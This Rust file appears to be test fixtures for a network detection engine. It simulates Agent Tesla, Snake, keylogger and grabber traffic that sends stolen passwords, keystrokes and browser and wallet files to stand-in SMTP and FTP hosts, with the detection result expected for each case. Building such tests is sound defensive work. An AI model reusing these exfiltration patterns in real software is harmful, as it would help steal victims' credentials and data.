//! Keyloggers and stealers that mail their loot or store it by FTP.

use super::{Case, VICTIM, finds};
use crate::net::{Net, Tcp, noise, zip};
use crate::web::{browsing, once};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;

const EXFIL: &[&str] = &["exfiltration"];

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "agenttesla-smtp",
            about: "Agent Tesla: hosting test, then submission on 587 with its subject and list of passwords.",
            expect: finds("203.0.113.50", Some("Agent Tesla"), EXFIL, "high"),
            wire: agenttesla_smtp,
        },
        Case {
            name: "agenttesla-ftp",
            about: "Agent Tesla: STOR of an HTML list named after user and computer.",
            expect: finds("203.0.113.51", Some("Agent Tesla"), EXFIL, "high"),
            wire: agenttesla_ftp,
        },
        Case {
            name: "snake-smtp",
            about: "Snake and its kin: seven address checks in three seconds, then mail with its tag line.",
            expect: finds("203.0.113.52", Some("Snake"), EXFIL, "high"),
            wire: snake,
        },
        Case {
            name: "keylogger-smtp",
            about: "A keylogger of no known family: a workstation mails its machine's facts and typed keys to its own mailbox.",
            expect: finds("203.0.113.53", None, EXFIL, "medium"),
            wire: keylogger,
        },
        Case {
            name: "grabber-ftp-zip",
            about: "A grabber of no known family stores a ZIP of browser files at a public FTP server.",
            expect: finds("203.0.113.54", None, EXFIL, "medium"),
            wire: ftp_zip,
        },
    ]
}

/// A dialogue: lines of the client and what the server answers.
fn talk(net: &mut Net, tcp: &mut Tcp, lines: &[(&str, &str)]) {
    for (ask, answer) in lines {
        net.up(tcp, format!("{ask}\r\n").as_bytes());
        net.wait_ms(20);
        net.down(tcp, format!("{answer}\r\n").as_bytes());
    }
}

/// A login at a submission server and one mail.
fn submit(net: &mut Net, server: &str, ehlo: &str, account: &str, to: &str, mail: &str) {
    let mut tcp = net.tcp(VICTIM, server);
    net.down(&mut tcp, b"220 mail.example ESMTP ready\r\n");
    let user = B64.encode(account);
    talk(
        net,
        &mut tcp,
        &[
            (
                &format!("EHLO {ehlo}"),
                "250-mail.example\r\n250-SIZE 52428800\r\n250-AUTH PLAIN LOGIN\r\n250 8BITMIME",
            ),
            (&format!("AUTH login {user}"), "334 UGFzc3dvcmQ6"),
            (&B64.encode("not-a-password"), "235 Authentication succeeded"),
            (&format!("MAIL FROM:<{account}>"), "250 OK"),
            (&format!("RCPT TO:<{to}>"), "250 Accepted"),
            ("DATA", "354 Enter message, ending with \".\" on a line by itself"),
        ],
    );
    net.up(&mut tcp, format!("{mail}\r\n.\r\n").as_bytes());
    net.wait_ms(80);
    net.down(&mut tcp, b"250 OK id=1xExmp-000001-AA\r\n");
    net.wait_ms(90_000);
    net.close(tcp);
}

fn machine(lines: usize) -> String {
    let mut text = "Time: 03/02/2026 09:01:00<br>User Name: erika<br>Computer Name: EXAMPLE-PC<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Example CPU<br>RAM: 8191.5 MB<br><hr>".to_owned();
    for n in 0..lines {
        text += &format!(
            "Host: https://site{n}.example/<br>\r\nUsername: erika<br>Password: nothing<br>\r\nApplication: Browser<br><hr>"
        );
    }
    text
}

fn agenttesla_smtp(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "ip-api.com", "198.51.100.60");
    once(
        net,
        VICTIM,
        "198.51.100.60:80",
        ("GET /line/?fields=hosting", &["Host: ip-api.com", "Connection: Keep-Alive"], b""),
        ("200 OK", "text/plain", b"false\n"),
    );
    net.wait_ms(9000);
    net.resolve(VICTIM, "mail.builders.example", "203.0.113.50");
    let mail = format!(
        "MIME-Version: 1.0\r\nFrom: office@builders.example\r\nTo: log@builders.example\r\nDate: 2 Mar 2026 10:01:00 +0100\r\nSubject: PW_erika/EXAMPLE-PC\r\nContent-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{}",
        machine(5)
    );
    submit(net, "203.0.113.50:587", "EXAMPLE-PC", "office@builders.example", "log@builders.example", &mail);
}

fn agenttesla_ftp(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "ftp.garden.example", "203.0.113.51");
    let mut tcp = net.tcp(VICTIM, "203.0.113.51:21");
    net.down(&mut tcp, b"220 FTP Server ready.\r\n");
    talk(
        net,
        &mut tcp,
        &[
            ("USER drop@garden.example", "331 Password required"),
            ("PASS not-a-password", "230 User logged in"),
            ("OPTS utf8 on", "200 UTF8 set to on"),
            ("PWD", "257 \"/\" is the current directory"),
            ("TYPE I", "200 Type set to I"),
            ("PASV", "227 Entering Passive Mode (203,0,113,51,195,80)"),
        ],
    );
    net.up(&mut tcp, b"STOR PW_erika-EXAMPLE-PC_2026_03_02_09_01_00.html\r\n");
    let mut data = net.tcp(VICTIM, "203.0.113.51:50000");
    net.down(&mut tcp, b"150 Opening BINARY mode data connection\r\n");
    net.up(&mut data, format!("<html>{}</html>", machine(4)).as_bytes());
    net.close(data);
    net.down(&mut tcp, b"226 Transfer complete\r\n");
    net.wait_ms(30_000);
    net.close(tcp);
}

fn snake(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "checkip.dyndns.org", "198.51.100.64");
    for _ in 0..7 {
        once(net, VICTIM, "198.51.100.64:80", ("GET /", &["User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.2; .NET CLR1.0.3705;)", "Host: checkip.dyndns.org"], b""), ("200 OK", "text/html", b"<html><head><title>Current IP Check</title></head><body>Current IP Address: 192.0.2.10</body></html>"));
        net.wait_ms(250);
    }
    net.wait_ms(18_000);
    net.resolve(VICTIM, "mail.ferry.example", "203.0.113.52");
    let text = "PW | erika | Snake\r\n\r\nPC Name: EXAMPLE-PC\r\nDate and Time: 3/2/2026 / 10:01:00 AM\r\nClient IP: 192.0.2.10\r\nCountry Name: Exampleland\r\n\r\n-------- Snake Tracker --------\r\nFound From: Browser\r\nHost: https://shop.example/\r\nUSR: erika\r\nPSWD: nothing\r\n---------------------------------\r\n";
    let mail = format!(
        "MIME-Version: 1.0\r\nFrom: crew@ferry.example\r\nTo: crew@ferry.example\r\nDate: 2 Mar 2026 10:01:30 +0100\r\nSubject: Pc Name: erika | Snake Tracker\r\nContent-Type: multipart/mixed;\r\n boundary=--boundary_0_00000000-1111-2222-3333-444444444444\r\n\r\n----boundary_0_00000000-1111-2222-3333-444444444444\r\nContent-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{text}\r\n----boundary_0_00000000-1111-2222-3333-444444444444\r\nContent-Type: application/octet-stream; name=Passwords.txt\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=Passwords.txt\r\n\r\n{}\r\n----boundary_0_00000000-1111-2222-3333-444444444444--",
        B64.encode(text)
    );
    submit(net, "203.0.113.52:587", "EXAMPLE-PC", "crew@ferry.example", "crew@ferry.example", &mail);
}

fn keylogger(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "smtp.harbour.example", "203.0.113.53");
    for report in 0..3 {
        let mail = format!(
            "From: post@harbour.example\r\nTo: post@harbour.example\r\nSubject: EXAMPLE-PC\\erika report {report}\r\nContent-Type: text/plain\r\n\r\nComputer Name: EXAMPLE-PC\r\nUser Name: erika\r\nOperating System: Windows 10\r\n\r\n[Notepad - letter.txt]\r\nDear sir[ENTER]I am writing[BACKSPACE][BACKSPACE]te to you[ENTER]\r\n[Shop - Browser]\r\nerika[TAB]nothing[ENTER]\r\n"
        );
        submit(net, "203.0.113.53:587", "EXAMPLE-PC", "post@harbour.example", "post@harbour.example", &mail);
        net.wait_ms(510_000);
    }
}

fn ftp_zip(net: &mut Net) {
    browsing(net, VICTIM);
    let archive = zip(&[
        ("EX_EXAMPLE-PC/Login Data", &noise(91, 18_000)),
        ("EX_EXAMPLE-PC/Cookies", &noise(92, 22_000)),
        ("EX_EXAMPLE-PC/wallet.dat", &noise(93, 9_000)),
        ("EX_EXAMPLE-PC/Desktop.png", &noise(94, 60_000)),
    ]);
    let mut tcp = net.tcp(VICTIM, "203.0.113.54:21");
    net.down(&mut tcp, b"220 Welcome to the file server\r\n");
    talk(
        net,
        &mut tcp,
        &[
            ("USER upload", "331 Please specify the password."),
            ("PASS not-a-password", "230 Login successful."),
            ("TYPE I", "200 Switching to Binary mode."),
            ("EPSV", "229 Entering Extended Passive Mode (|||40123|)"),
        ],
    );
    let mut data = net.tcp(VICTIM, "203.0.113.54:40123");
    net.up(&mut tcp, b"STOR EXAMPLE-PC_erika.zip\r\n");
    net.down(&mut tcp, b"150 Ok to send data.\r\n");
    net.up(&mut data, &archive);
    net.close(data);
    net.down(&mut tcp, b"226 Transfer complete.\r\n");
    talk(net, &mut tcp, &[("QUIT", "221 Goodbye.")]);
    net.close(tcp);
}
